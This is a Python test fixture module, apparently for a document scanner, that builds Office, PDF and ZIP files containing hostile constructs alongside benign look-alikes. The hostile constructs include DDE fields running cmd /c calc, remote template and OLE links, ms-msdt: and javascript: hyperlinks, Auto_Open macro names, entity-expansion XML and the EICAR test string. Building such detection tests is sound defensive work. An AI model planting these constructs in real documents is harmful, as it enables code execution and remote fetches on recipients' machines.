"""Office files that ask for something elsewhere or would start a program; and honest ones that look like it."""

import io

import docx
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from openpyxl import Workbook, load_workbook
from openpyxl.chart import BarChart, Reference

from tests.files.corpus import MAIN_PARTS, SHEET, SLIDES, WORD, office, zipped

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
FOLDER = {WORD: "word", SHEET: "xl", SLIDES: "ppt"}
ENDING = {WORD: "a.docx", SHEET: "a.xlsx", SLIDES: "a.pptx"}
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}" + rb"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
DDE = f'<externalLink {S}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
UNFOLDING = b'<!DOCTYPE a [<!ENTITY b "cc"><!ENTITY d "&b;&b;&b;">]>'


def related(main: str, kind: str, target: str, mode: str = 'TargetMode="External"', base: str = R) -> bytes:
    """A file whose main part has one relation."""
    part = MAIN_PARTS[main].rpartition("/")[2]
    relation = f'<Relationship Id="r1" Type="{base}/{kind}" Target="{target}" {mode}/>'
    xml = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relation}</Relationships>'
    return office(main, {f"{FOLDER[main]}/_rels/{part}.rels": xml.encode()})


def with_part(main: str, name: str, xml: str) -> bytes:
    return office(main, {f"{FOLDER[main]}/{name}": xml.encode()})


def field(*pieces: str) -> bytes:
    """A Word field whose code is written in so many pieces."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return with_part(WORD, "footer1.xml", f"<w:ftr {W}><w:p>{begin}{runs}{end}</w:p></w:ftr>")


def formula(text: str, name: str = "f") -> bytes:
    return with_part(SHEET, "worksheets/sheet1.xml", f"<worksheet {S}><{name}>{text}</{name}></worksheet>")


HOSTILE = [
    *[
        (ENDING[main], related(main, kind, target), said)
        for main in (WORD, SHEET, SLIDES)
        for kind, target, said in (
            ("attachedTemplate", "http://10.0.0.9/a.dotm", "mẫu văn bản"),
            ("attachedTemplate", "file:///C:/a.dotm", "mẫu văn bản"),
            ("image", "https://a.example/a.png", "hình ảnh"),
            ("oleObject", "file://may-chu/a.xlsx", "đối tượng"),
            ("video", "https://a.example/v", "video"),
            ("frame", "http://a.example/", "nội dung liên kết"),
            ("externalLinkPath", "http://a.example/b.xlsx", "tệp Excel khác"),
            ("externalLinkPath", "file:////may-chu/chung/b.xlsx", "tệp Excel khác"),
            ("mailMergeSource", r"file:///\\may-chu\chung\b.xlsx", "nội dung liên kết"),
            ("hyperlink", "javascript:alert(1)", "chạy chương trình"),
            ("hyperlink", "ms-msdt:/id", "chạy chương trình"),
            ("hyperlink", "file:///C:/Windows/System32/calc.exe", "chạy chương trình"),
            ("hyperlink", "cmd.exe /c calc", "chạy chương trình"),
            ("hyperlink", "..\\a.LNK", "chạy chương trình"),
            ("xlMacrosheet", "m.xml", "macro"),
            ("aFChunk", "a.mht", "nội dung liên kết"),
        )
    ],
    ("a.docx", related(WORD, "image", "http://a.example/a.png", ""), "hình ảnh"),
    ("a.docx", related(WORD, "oleObject", "\\\\may\\a.doc", ""), "đối tượng"),
    ("a.docx", related(WORD, "image", "http://a/a.png", base="http://purl.oclc.org/ooxml/relationships"), "hình ảnh"),
    ("a.docx", field("DDEAUTO c:\\windows\\cmd.exe"), "chạy chương trình"),
    ("a.docx", field(" dd", "e", "  excel a"), "chạy chương trình"),
    ("a.docx", field("INCLUDEPICTURE ", '"http://a.example/a.png"'), "hình ảnh"),
    ("a.docx", field("LINK Excel.Sheet.12 a.xlsx"), "nội dung liên kết"),
    ("a.docx", field("INCLUDETEXT \\\\may\\a.doc"), "nội dung liên kết"),
    ("a.docx", with_part(WORD, "document2.xml", f'<w:p {W}><w:fldSimple w:instr="DDE a b"/></w:p>'), "chạy"),
    ("a.docx", with_part(WORD, "document2.xml", f"<w:p {W}><w:instrText>DDE a b</w:instrText></w:p>"), "chạy"),
    ("a.xlsx", with_part(SHEET, "externalLinks/e.xml", DDE), "cmd|"),
    ("a.xlsx", formula("cmd|'/c calc'!A0"), "chạy chương trình"),
    ("a.xlsx", formula("1+RTD(&quot;a&quot;,,1)"), "chạy chương trình"),
    ("a.xlsx", formula("_xlfn.WEBSERVICE(A1)"), "nội dung liên kết"),
    ("a.xlsx", formula('HYPERLINK("calc.exe","xem")'), "chạy chương trình"),
    ("a.xlsx", formula("cmd|'x'!A0", "definedName"), "chạy chương trình"),
    ("a.xlsx", with_part(SHEET, "w2.xml", f'<w {S}><definedName name="_xlnm.Auto_Open">A1</definedName></w>'), "macro"),
    ("a.xlsx", with_part(SHEET, "w2.xml", f'<w {S}><definedName name="a" xlm="1">A1</definedName></w>'), "macro"),
    ("a.xlsx", with_part(SHEET, "connections.xml", f'<c {S}><connection refreshOnLoad="1" name="n"/></c>'), "liên kết"),
    ("a.pptx", with_part(SLIDES, "slides/s.xml", f'<a:hlinkClick {A} action="ppaction://program?file=a"/>'), "chạy"),
    *[
        (ENDING[main], office(main, {f"{FOLDER[main]}/comments.xml": UNFOLDING + b"<a>&d;</a>"}), "thực thể XML")
        for main in (WORD, SHEET, SLIDES)
    ],
    ("a.docx", office(WORD, {"word/a.xml": UNFOLDING.decode().encode("utf-16")}), "thực thể XML"),
    ("a.docx", office(WORD, {"word/media/a.png": bytes(65_520) + EICAR}), "EICAR"),
    ("a.pdf", b"%PDF-1.7\n" + bytes(1_048_540) + EICAR, "EICAR"),
    ("a.zip", zipped({"a.pdf": b"%PDF-1.7\n" + EICAR}), "EICAR"),
    ("a.zip", zipped({"a.docx": field("DDEAUTO a")}), "chạy chương trình"),
    ("a.pptx", office(SLIDES, {"ppt/embeddings/a.xlsx": formula("cmd|'/c calc'!A0")}), "chạy chương trình"),
]  # fmt: skip


def word_with_links() -> bytes:
    """As people write: links to pages, mail, a file beside it; a table of contents; page numbers."""
    document = docx.Document()
    for target in ("https://vbpl.vn/a?b=1#c", "mailto:ldtbxh@a.vn", "../Ke%20hoach.docx", "file:///C:/Van%20ban/a.pdf",
                   "www.daklak.gov.vn", "http://a.vn/cai-dat.exe"):  # fmt: skip
        document.part.relate_to(target, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    paragraph = document.add_paragraph()
    for code in (
        ' TOC \\o "1-3" \\h \\z \\u ',
        " PAGE ",
        ' HYPERLINK "http://a.vn" ',
        " MERGEFIELD Tên ",
        " IF 1=1 a b ",
    ):
        run = paragraph.add_run()
        begin = OxmlElement("w:fldChar")
        begin.set(qn("w:fldCharType"), "begin")
        said = OxmlElement("w:instrText")
        said.text = code
        end = OxmlElement("w:fldChar")
        end.set(qn("w:fldCharType"), "end")
        for element in (begin, said, end):
            run._r.append(element)
    saved = io.BytesIO()
    document.save(saved)
    return saved.getvalue()


def sheet_with_chart() -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.title = "a|b"
    for row in range(1, 5):
        sheet.append([f"Phường {row}", row, f"=IF(B{row}>1,\"nam|nữ\",'a|b'!B{row})"])
    sheet["D1"] = '=HYPERLINK("https://a.vn/","xem")'
    sheet["D2"].hyperlink = "mailto:a@b.vn"
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=4))
    sheet.add_chart(chart, "F1")
    saved = io.BytesIO()
    book.save(saved)
    load_workbook(saved)
    return saved.getvalue()


HONEST = [
    ("a.docx", word_with_links()),
    ("a.xlsx", sheet_with_chart()),
    ("a.docx", office(WORD, {"word/embeddings/bang.xlsx": sheet_with_chart()})),
    ("a.docx", related(WORD, "mailMergeSource", "file:///C:\\Users\\a\\danh sach.xlsx")),
    ("a.xlsx", related(SHEET, "externalLinkPath", "So%20lieu%202023.xlsx")),
    ("a.xlsx", related(SHEET, "externalLinkPath", "file:///D:\\So lieu.xlsx")),
    ("a.pptx", related(SLIDES, "hyperlink", "https://a.vn/")),
    ("la.pptx", related(SLIDES, "hyperlink", "http://[1")),  # nobody can take it apart
    ("a.docx", related(WORD, "image", "media/image1.png", "")),
    ("a.docx", with_part(WORD, "m.xml", '<m:f xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math">|x|</m:f>')),
    ("a.xlsx", with_part(SHEET, "drawings/vmlDrawing1.vml", "<xml><br><a></xml>")),
    ("a.xlsx", with_part(SHEET, "connections.xml", f'<c {S}><connection name="n"><textPr/></connection></c>')),
    ("a.docx", office(WORD, {"word/empty.xml": b""})),
]  # fmt: skip
